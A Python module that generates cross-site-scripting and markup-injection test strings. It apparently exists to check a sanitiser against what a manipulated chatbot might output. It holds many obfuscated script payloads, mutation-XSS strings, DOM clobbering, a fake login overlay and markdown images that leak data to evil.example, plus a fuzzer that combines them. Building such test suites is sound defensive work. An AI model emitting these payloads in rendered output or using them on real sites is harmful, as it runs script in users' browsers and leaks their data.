"""What a tricked or malicious bot might write so that something runs in a visitor's browser, or a stranger learns of
the visitor. The kinds are those of the public lists (OWASP's evasion cheat sheet, the sanitisers' own test data,
mutation XSS); the texts are ours. What would run calls `alert`, what would fetch asks `evil.example`.
"""

import random
from itertools import product

_CALL = "alert(1)"

_HANDLERS = (
    *("onload", "onerror", "onclick", "onmouseover", "onfocus", "onblur", "onanimationstart", "onanimationend"),
    *("ontransitionend", "ontoggle", "onbeforetoggle", "onpointerenter", "onpointerrawupdate", "onwheel", "onscroll"),
    *("onscrollend", "onbegin", "onend", "onrepeat", "oncanplay", "onloadstart", "onhashchange", "onpageshow"),
    *("onsecuritypolicyviolation", "onslotchange", "onbeforematch", "oncontentvisibilityautostatechange"),
)

_ELEMENTS = (
    *(
        "img src=x",
        "svg",
        "body",
        "video src=x",
        "audio src=x",
        "video><source src=x",
        "iframe src=x",
        "object data=x",
    ),
    *("embed src=x", "input autofocus", "select autofocus", "textarea autofocus", "button autofocus", "details open"),
    *(
        "marquee",
        "math",
        "style",
        "link rel=stylesheet href=x",
        "script src=x",
        "svg><animate attributeName=x dur=1s",
    ),
    *(
        "svg><set attributeName=x",
        "a href=x",
        "form",
        "frameset",
        "table background=x",
        "div popover",
        "xss tabindex=1",
    ),
    *("svg><image href=x", "svg><use href=x", "portal src=x", "dialog open", "summary", "track src=x", "p id=x"),
)

_SCHEMES = (
    *(
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        "java\rscript:",
        " javascript:",
        "\x01javascript:",
    ),
    *(
        "javascript&colon;",
        "&#106;avascript:",
        "&#x6A;avascript:",
        "&#0000106avascript:",
        "javascript&#58;",
        "%6Aavascript:",
    ),
    *(
        "vbscript:",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    ),
    *(
        "data:image/svg+xml,<svg onload=alert(1)>",
        "view-source:javascript:",
        "feed:javascript:",
        "jar:javascript:",
        "blob:",
    ),
    *(
        "//evil.example/",
        "\\\\evil.example\\",
        "/\\evil.example/",
        "https:javascript:",
        "https://evil.example@javascript:",
    ),
    *(
        "file:///etc/passwd",
        "ftp://evil.example/",
        "filesystem:https://evil.example/",
        "intent://evil.example#Intent;end",
    ),
    *(
        "ｊavascript:",
        "java\u00adscript:",
        "java\u200bscript:",
        "java\0script:",
        "\ufeffjavascript:",
        "javascript\u2028:",
    ),
)

_LINKS = (
    "[x]({})", "[x](<{}>)", "![x]({})", "![x](<{}>)", "[![x]({})]({})", "<{}>", "[x]: {}\n\n[x]", "[x][y]\n\n[y]: <{}>", "{}",
    "![x][y]\n\n[y]: {} 'z'", '[x]({} "onmouseover=alert(1)")', "<a href={}>x</a>", '<a href="{}">x</a>', "<img src='{}'>",
    "<iframe src='{}'></iframe>", "<form action='{}'><button>x</button></form>", "<button formaction='{}'>x</button>",
    "<svg><a xlink:href='{}'><text>x</text></a></svg>", "<math href='{}'>x</math>", "<base href='{}'>", "<area href='{}'>",
    "<meta http-equiv=refresh content='0;url={}'>", "<object data='{}'></object>", "<embed src='{}'>", "<link rel=import href='{}'>",
    "| [x]({}) |\n|---|", "> [x]({})", "- ![x]({})", "# [x]({})", "1. <{}>", "**[x]({})**", "~~![x]({})~~",
)  # fmt: skip

_WHOLE = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "<<script>alert(1)//<</script>", "<script>alert(1)", "<script src=//evil.example/x>",
    "<script>alert(1)</script", "\x00<script>alert(1)</script>", "<\x00script>alert(1)</script>", "<script\x0c>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u00bcscript\u00bealert(1)\u00bc/script\u00be", "＜script＞alert(1)＜/script＞",
    "<!--><script>alert(1)</script>-->", "<!--><img src=x onerror=alert(1)>", "<!-- --!><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=1?><script>alert(1)</script>", "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;", "<!doctype html><script>alert(1)</script>",
    "</p><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "\"><script>alert(1)</script>", "'><img src=x onerror=alert(1)>", "`><img src=x onerror=alert(1)>", "--><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<template><script>alert(1)</script></template>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>", "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>", "<svg><style><![CDATA[</style><img src=x onerror=alert(1)>]]>",
    "<select><iframe></select><img src=x onerror=alert(1)>", "<table><td><svg><desc><table><script>alert(1)</script>", "<svg><title><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>", "<iframe srcdoc=<svg/onload=alert(1)>>", "<object type='text/html' data='data:text/html,<script>alert(1)</script>'></object>",
    "<img src=x onerror=alert(1)//", "<img src='x' onerror='alert(1)'", "<img/src=x/onerror=alert(1)>", "<img\tsrc=x\tonerror=alert(1)>", "<img\x0bsrc=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>", "<img src=x onerror=&#97;lert(1)>", "<img src=x onerror=\\u0061lert(1)>", "<img src=x:x onerror=alert`1`>", "<img srcset=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>", "<image src=x onerror=alert(1)>", "<img onerror=alert(1) src>", "<img src=x oNeRrOr=alert(1)>", "<x onclick=alert(1) style=position:fixed;inset:0>x",
    "<style>@import '//evil.example/x.css';</style>", "<style>*{background:url(//evil.example/x)}</style>", "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=prefetch href=//evil.example/x>",
    "<link rel=dns-prefetch href=//evil.example>", "<p style='background:url(//evil.example/x)'>x</p>", "<p style=\"width:expression(alert(1))\">x</p>", "<p style='behavior:url(x)'>x</p>",
    "<p style='-moz-binding:url(//evil.example/x)'>x</p>", "<div style='position:fixed;inset:0;z-index:99999'>Log in again</div>", "<input type=image src=//evil.example/x>", "<video poster=//evil.example/x>",
    "<body background=//evil.example/x>", "<table background='//evil.example/x'>", "<audio src=//evil.example/x autoplay>", "<source srcset=//evil.example/x>", "<track src=//evil.example/x>",
    "<picture><source srcset=//evil.example/x><img src=x></picture>", "<img src=https://evil.example/p.png>", "![x](https://evil.example/p.png?secret=1)", "![](https://evil.example/p.png)",
    "![x](https://evil.example/p.png 'title')", "![x][y]\n\n[y]: https://evil.example/p.png", "[![x](https://evil.example/p.png)](https://evil.example)", "![x](//evil.example/p.png)", "![x](http://evil.example/p.png)",
    "![x](https://images.example.com@evil.example/p.png)", "![x](https://images.example.com.evil.example/p.png)", "![x](https://evil.example\\@images.example.com/p.png)", "![x](https://evil.example#@images.example.com/p.png)",
    "![x](https://evil.example/?@images.example.com)", "![x](https:/\\evil.example/p.png)", "![x](https:evil.example/p.png)", "![x](https://images.example.com:99@evil.example/)", "![\"onerror=alert(1) x=\"](https://images.example.com/p.png)",
    "![x](https://images.example.com/\"onerror=\"alert(1))", "![x](https://images.example.com/p.png '\"onerror=alert(1)')", "<a name=body id=documentElement>x</a>", "<form id=document><input name=cookie></form>", "<a id=defaultView>x</a>",
    "<p id=chat class=launcher part=panel slot=x is=y>x</p>", "<slot onslotchange=alert(1)></slot>", "<chat-widget site=evil></chat-widget>", "<script type=module>import '//evil.example/x.js'</script>", "<script type=importmap>{}</script>",
    "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'\">", "<meta http-equiv=Set-Cookie content=a=b>", "<meta name=referrer content=unsafe-url>", "<base target=_top href=//evil.example/>",
    "<a href=https://evil.example target=_top>x</a>", "<a href=https://evil.example rel=opener>x</a>", "<a href=https://evil.example ping=//evil.example/ping>x</a>", "<a href=https://evil.example download>x</a>",
    "<p>&NewLine;&Tab;<a href=java&Tab;script:alert(1)>x</a>", "<a href=&#x2000;javascript:alert(1)>x</a>", "<svg><script href=data:,alert(1) />", "<svg><script>&#97;lert(1)</script></svg>", "<svg><animate href=#x attributeName=href values=javascript:alert(1) />",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x' />", "<math><maction actiontype=statusline#http://evil.example xlink:href=javascript:alert(1)>x</maction></math>",
    "```\n</code></pre><script>alert(1)</script>\n```", "`</code><script>alert(1)</script>`", "```<img src=x onerror=alert(1)>\nx\n```", "~~~\"><script>alert(1)</script>\nx\n~~~", "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |", "# <img src=x onerror=alert(1)>", "> <svg onload=alert(1)>", "- <svg onload=alert(1)>", "1. <svg onload=alert(1)>", "***<svg onload=alert(1)>***",
    "[<img src=x onerror=alert(1)>](https://evil.example)", "[x](https://evil.example/<script>alert(1)</script>)", "[x](https://evil.example/\"onmouseover=\"alert(1))", "[x](<https://evil.example/ onclick=alert(1)>)", "[x](https://evil.example '\"><script>alert(1)</script>')",
    "<https://evil.example/\"onclick=alert(1)>", "https://evil.example/\"onclick=alert(1)", "https://evil.example/<script>alert(1)</script>", "www.evil.example/'><script>alert(1)</script>", "a@evil.example\"><script>alert(1)</script>",
    "\u202e<script>alert(1)</script>\u202c", "[\u202egpj.exe](https://evil.example)", "<scr\u200bipt>alert(1)</script>", "<\u0130mg src=x onerror=alert(1)>", "<ſcript>alert(1)</ſcript>", "\ud83d\ude00<script>alert(1)</script>".encode("utf-16", "surrogatepass").decode("utf-16"),
)  # fmt: skip


def known() -> list[str]:
    """Each kind once, and each element with each handler, each scheme in each link."""
    elements = [f"<{element} {handler}={_CALL}>" for element, handler in product(_ELEMENTS, _HANDLERS)]
    links = [link.replace("{}", _complete(scheme)) for link, scheme in product(_LINKS, _SCHEMES)]
    return [*_WHOLE, *elements, *links]


def generated(count: int, chance: random.Random) -> list[str]:
    """Two or three of them in one another, with signs thrown in that parsers read differently."""
    texts = known()
    return [_mixed([chance.choice(texts) for _ in range(chance.choice((2, 2, 3)))], chance) for _ in range(count)]


_NOISE = (
    *(
        "\0",
        "\t",
        "\n",
        "\r\n",
        "\x0b",
        "\x0c",
        "/",
        "\\",
        "`",
        "'",
        '"',
        "<",
        ">",
        "&",
        ";",
        "=",
        "<!--",
        "-->",
        "]]>",
    ),
    *(
        "&lt;",
        "&#x3c;",
        "\u2028",
        "\u200b",
        "\ufeff",
        "\u202e",
        "|",
        "*",
        "_",
        "[",
        "](",
        ")",
        "#",
        "```",
        "\\<",
        "<p>",
        "</p>",
    ),
)


def _mixed(parts: list[str], chance: random.Random) -> str:
    text = parts[0]
    for part in parts[1:]:
        at = chance.randrange(len(text) + 1)
        text = text[:at] + part + text[at:]
    for _ in range(chance.randrange(4)):
        at = chance.randrange(len(text) + 1)
        text = text[:at] + chance.choice(_NOISE) + text[at:]
    return text


def _complete(scheme: str) -> str:
    return scheme + _CALL if scheme.rstrip().endswith((":", "&colon;", "&#58;")) else scheme
